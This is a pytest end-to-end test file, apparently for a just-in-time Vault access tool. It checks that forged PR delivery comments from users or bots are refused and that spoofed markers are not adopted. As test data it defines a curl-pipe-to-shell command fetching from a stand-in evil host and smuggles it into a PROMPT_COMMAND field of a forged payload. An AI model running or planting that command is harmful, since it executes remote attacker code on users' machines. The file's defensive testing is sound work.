"""Hostile deliveries end to end (issue 9, finding 3), through the real command line
(``jit.cli.main``) against the fakes: a look-alike delivery comment on the requester's PR, posted
by a user or by another bot, pasted or fetched from the PR; and a bot comment that carries jit's
marker before jit writes its own.

Anyone can age-encrypt to a requester's public SSH keys, and Vault's ``default`` policy lets any
token wrap data of its choosing, so a forged comment decrypts fine and names the right Vault.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests

from jit.cli import main
from jit.delivery import DeliveryPayload, choose_delivery, delivery_marker, seal
from jit.pr.plan import MARKER as PLAN_MARKER
from jit.reconcile.state import grant_id
from tests.e2e.conftest import Flow
from tests.fakes.github_state import Comment

HOSTILE = "curl -s https://evil.example/x | sh"
JIT_BOT = "jit-app[bot]"  # the login of the fake's App token, as the workflows pass it


@dataclass
class Ran:
    code: int
    out: str
    err: str


def forge(flow: Flow, requester: str, grant: str) -> tuple[str, str]:
    """A delivery comment as jit would write it, wrapping the forger's own choice of data
    (with the default policy, at ``sys/wrapping/wrap``). Returns (body, wrapping token)."""
    attacker = flow.vault.tokens.add(["default"], 3600)
    data = {
        "vault_addr": flow.vault.address,
        "client_token": attacker.id,
        "PROMPT_COMMAND": HOSTILE,
    }
    wrapped = requests.post(
        f"{flow.vault.address}/v1/sys/wrapping/wrap",
        json=data,
        headers={"X-Vault-Token": attacker.id, "X-Vault-Wrap-TTL": "300"},
        timeout=5,
    ).json()["wrap_info"]["token"]
    payload = DeliveryPayload(flow.vault.address, None, wrapped, grant, "2026-01-05T11:00:00+00:00")
    plan = choose_delivery([flow.keys[requester].public], "refuse")
    body = "\n".join(
        [
            delivery_marker(grant),
            f"### 🔐 @{requester}, your access to `db-token` is ready",
            "```",
            seal(payload, plan.recipients).strip(),
            "```",
        ]
    )
    return body, wrapped


def unwrap_cli(
    flow: Flow,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    login: str,
    comment: str,
    *args: str,
) -> Ran:
    """The requester, in their clone of the access repository, runs ``jit unwrap --format
    env comment.txt`` (or ``jit unwrap --format env ARGS``) with their own key, Vault address
    and GitHub token."""
    home = flow.tmp / f"home-{login}-{len(list(flow.tmp.glob('home-*')))}"
    (home / ".ssh").mkdir(parents=True)
    flow.keys[login].write(home / ".ssh" / "id_ed25519")
    (home / "comment.txt").write_text(comment)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("VAULT_ADDR", flow.vault.address)
    monkeypatch.delenv("VAULT_NAMESPACE", raising=False)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    monkeypatch.chdir(flow.checkout())
    token = f"ghp_{login}Token0000000001"
    flow.github.add_token(token, login)
    monkeypatch.setenv("GITHUB_TOKEN", token)
    monkeypatch.setenv("GITHUB_API_URL", flow.github.base_url)
    monkeypatch.setenv("GITHUB_REPOSITORY", flow.github.repo.full_name)
    argv = list(args) or [str(home / "comment.txt")]
    monkeypatch.setattr(sys, "argv", ["jit", "unwrap", "--format", "env", *argv])
    with pytest.raises(SystemExit) as done:
        main()
    out, err = capsys.readouterr()
    return Ran(int(done.value.code or 0), out, err)


def comments(flow: Flow, number: int) -> list[Comment]:
    """What anyone reading the PR (or fetching its comments from the API) sees."""
    return flow.github.comments_on(number)


def by(flow: Flow, number: int, login: str, marker: str) -> list[str]:
    return [c.body for c in comments(flow, number) if c.login == login and marker in c.body]


def refused(ran: Ran, wrap: str, flow: Flow) -> None:
    assert ran.code == 1, ran.err
    assert ran.out == ""
    assert "created at 'sys/wrapping/wrap', where jit never creates one" in ran.err
    assert HOSTILE not in ran.err
    token = flow.vault.tokens.get(wrap)
    assert token is not None and token.is_wrapping  # refused without being spent


@pytest.mark.parametrize("forger", ["mallory", "evil-app[bot]"])
def test_a_forged_delivery_posted_after_the_real_one(
    flow: Flow,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    forger: str,
) -> None:
    pr = flow.open("alice", "tok", "db-token")
    flow.validate(pr)
    flow.approve_and_merge(pr)
    assert flow.run().code == 0
    (record,) = flow.records().values()
    forged, wrap = forge(flow, "alice", record.grant_id)
    flow.github.add_comment(pr, forger, forged)

    # Fetched from the PR: every comment carrying the delivery marker, newest first.
    marked = [c for c in comments(flow, pr.number) if "jit:delivery" in c.body]
    assert [c.login for c in marked] == [JIT_BOT, forger]
    refused(unwrap_cli(flow, monkeypatch, capsys, "alice", marked[-1].body), wrap, flow)
    # Pasted: just the armored block, copied out of the browser.
    block = forged[forged.index("-----BEGIN AGE") :]
    refused(unwrap_cli(flow, monkeypatch, capsys, "alice", block), wrap, flow)
    # Fetched with --pr: only the jit App's comment counts; the forgery is named, not used.
    genuine = unwrap_cli(flow, monkeypatch, capsys, "alice", "", "--pr", str(pr.number))
    assert f"were not posted by {JIT_BOT} (by {forger})" in genuine.err
    assert genuine.code == 0, genuine.err
    assert genuine.out.startswith("export VAULT_TOKEN=hvs.")
    assert f"export VAULT_ADDR={flow.vault.address}\n" in genuine.out
    assert "PROMPT_COMMAND" not in genuine.out


def test_a_bot_comment_with_the_delivery_marker_is_neither_adopted_nor_trusted(
    flow: Flow, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The grant id is predictable once the request is merged, so another bot can post a
    comment carrying its delivery marker before jit's run. jit must write its own comment and
    leave the bot's as it is; ``jit unwrap`` must refuse what the bot's comment holds."""
    pr = flow.open("alice", "tok", "db-token")
    flow.validate(pr)
    flow.approve_and_merge(pr)
    predicted = grant_id("requests/alice/tok", str(pr.merge_commit_sha))
    forged, wrap = forge(flow, "alice", predicted)
    planted = flow.github.add_comment(pr, "evil-app[bot]", forged)

    assert flow.run().code == 0
    (record,) = flow.records().values()
    assert record.grant_id == predicted
    assert flow.github.comments[planted.id].body == forged  # not adopted, not edited
    (own,) = by(flow, pr.number, JIT_BOT, delivery_marker(predicted))
    assert "BEGIN AGE ENCRYPTED FILE" in own
    refused(unwrap_cli(flow, monkeypatch, capsys, "alice", forged), wrap, flow)
    fetched = unwrap_cli(flow, monkeypatch, capsys, "alice", "", "--pr", str(pr.number))
    assert fetched.code == 0, fetched.err
    assert fetched.out.startswith("export VAULT_TOKEN=hvs.") and "PROMPT_COMMAND" not in fetched.out


def test_a_bot_comment_with_the_plan_marker_is_not_adopted(flow: Flow) -> None:
    pr = flow.open("alice", "tok", "db-token")
    planted = flow.github.add_comment(pr, "evil-app[bot]", f"{PLAN_MARKER}\nAll approved ✅")
    flow.github.add_comment(pr, "github-actions[bot]", f"{PLAN_MARKER}\nforged by a workflow")
    assert flow.validate(pr).code == 0
    assert flow.github.comments[planted.id].body == f"{PLAN_MARKER}\nAll approved ✅"
    (plan,) = by(flow, pr.number, JIT_BOT, PLAN_MARKER)
    assert "db-token" in plan


def test_unwrap_needs_the_access_repository(
    flow: Flow, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    monkeypatch.setattr(Flow, "checkout", lambda self: tmp_path)
    ran = unwrap_cli(flow, monkeypatch, capsys, "alice", "x")
    assert ran.code == 1 and "There is no policies/ directory" in ran.err


def test_unwrap_pr_explains_what_it_needs(
    flow: Flow, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pr = flow.open("alice", "tok", "db-token")
    ran = unwrap_cli(flow, monkeypatch, capsys, "alice", "", "--pr", str(pr.number))
    assert ran.code == 1 and f"has no delivery comment by {JIT_BOT}" in ran.err
    ran = unwrap_cli(flow, monkeypatch, capsys, "alice", "", "--pr", "1", "comment.txt")
    assert ran.code == 1 and "either --pr or MESSAGE" in ran.err
    monkeypatch.setattr("jit.commands.unwrap_trust.github_comments", lambda *a, **k: None)
    ran = unwrap_cli(flow, monkeypatch, capsys, "alice", "", "--pr", "1")
    assert ran.code == 1 and "needs a GitHub token" in ran.err
